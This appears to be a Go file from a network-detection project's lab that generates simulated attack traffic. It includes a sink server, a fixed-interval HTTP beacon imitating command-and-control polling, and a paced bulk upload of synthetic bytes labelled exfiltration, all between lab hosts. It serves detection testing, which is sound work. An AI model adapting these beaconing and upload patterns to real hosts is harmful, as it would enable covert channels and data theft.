package attack

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/netip"
	"time"

	"github.com/ebbwatch/ebbwatch/scripts/lab/internal/netlab"
)

const (
	commandPort = 8443 // of the server: where beacons call
	dropPort    = 9000 // of the server: where uploads go
)

// Serve runs the hostile server on host until ctx ends: it answers calls and
// swallows uploads.
func Serve(ctx context.Context, host *netlab.Host) error {
	errs := make(chan error, 2)
	server := &http.Server{
		ReadHeaderTimeout: 10 * time.Second,
		Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if _, err := io.Copy(io.Discard, r.Body); err != nil {
				return // the caller went away
			}
			_, _ = io.WriteString(w, "nothing to do\n") // as above
		}),
	}
	defer server.Close()
	for _, port := range []uint16{commandPort, dropPort} {
		ln, err := host.Listen(ctx, "tcp", netip.AddrPortFrom(host.IPv4[0], port).String())
		if err != nil {
			return fmt.Errorf("serve on %s: %w", host.Name, err)
		}
		go func() { errs <- server.Serve(ln) }()
	}
	select {
	case <-ctx.Done():
		return nil
	case err := <-errs:
		return fmt.Errorf("serve on %s: %w", host.Name, err)
	}
}

// Beacon calls the server over HTTP at a fixed interval, each time over a new
// connection, until ctx ends.
func Beacon(h Hosts, s Sizes) *Attack {
	target := netip.AddrPortFrom(h.Server.IPv4[0], commandPort)
	return &Attack{
		Name: "beacon", Kinds: []string{"beacon"}, Src: h.Watched.IPv4[0], Dst: target.Addr(),
		Does: fmt.Sprintf("%s calls %s every %s", h.Watched.IPv4[0], target, s.BeaconEvery),
		play: func(ctx context.Context, a *Attack) error {
			transport := &http.Transport{DialContext: h.Watched.Dialer(netip.Addr{}), DisableKeepAlives: true}
			client := http.Client{Transport: transport, Timeout: s.BeaconEvery}
			ticker := time.NewTicker(s.BeaconEvery)
			defer ticker.Stop()
			calls, failed := 0, 0
			for {
				if err := call(ctx, &client, "http://"+target.String()+"/poll"); err == nil {
					calls++
				} else if failed++; failed > 10 && calls == 0 {
					return fmt.Errorf("call the server: %w", err)
				}
				a.report("%d calls", calls)
				select {
				case <-ctx.Done():
					return nil
				case <-ticker.C:
				}
			}
		},
	}
}

func call(ctx context.Context, client *http.Client, url string) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return err
	}
	res, err := client.Do(req)
	if err != nil {
		return err
	}
	_, err = io.Copy(io.Discard, res.Body)
	return errors.Join(err, res.Body.Close())
}

// Upload sends many bytes to the server in one request.
func Upload(h Hosts, s Sizes) *Attack {
	target := netip.AddrPortFrom(h.Server.IPv4[0], dropPort)
	return &Attack{
		Name: "upload", Kinds: []string{"exfiltration"}, Also: []string{"volume"}, Src: h.Watched.IPv4[0], Dst: target.Addr(),
		Does: fmt.Sprintf("%s sends %d MB to %s", h.Watched.IPv4[0], s.UploadBytes/1e6, target),
		play: func(ctx context.Context, a *Attack) error {
			transport := &http.Transport{DialContext: h.Watched.Dialer(netip.Addr{})}
			defer transport.CloseIdleConnections()
			body := &paced{ctx: ctx, left: s.UploadBytes, rate: s.UploadRate, began: time.Now()}
			body.report = func() { a.report("%d of %d MB", body.sent/1e6, s.UploadBytes/1e6) }
			req, err := http.NewRequestWithContext(ctx, http.MethodPut, "http://"+target.String()+"/drop", body)
			if err != nil {
				return err
			}
			req.ContentLength = s.UploadBytes
			res, err := transport.RoundTrip(req)
			if err != nil {
				return err
			}
			return res.Body.Close()
		},
	}
}

// paced yields left bytes at no more than rate bytes a second.
type paced struct {
	ctx        context.Context
	left, sent int64
	rate       int64
	began      time.Time
	report     func()
}

func (p *paced) Read(buf []byte) (int, error) {
	if p.left == 0 {
		return 0, io.EOF
	}
	due := p.began.Add(time.Duration(float64(p.sent) / float64(p.rate) * float64(time.Second)))
	if wait := time.Until(due); wait > 0 {
		p.report()
		timer := time.NewTimer(wait)
		defer timer.Stop()
		select {
		case <-p.ctx.Done():
			return 0, context.Cause(p.ctx)
		case <-timer.C:
		}
	}
	n := min(int64(len(buf)), p.left)
	p.left -= n
	p.sent += n
	if p.left == 0 {
		p.report()
	}
	return int(n), nil
}
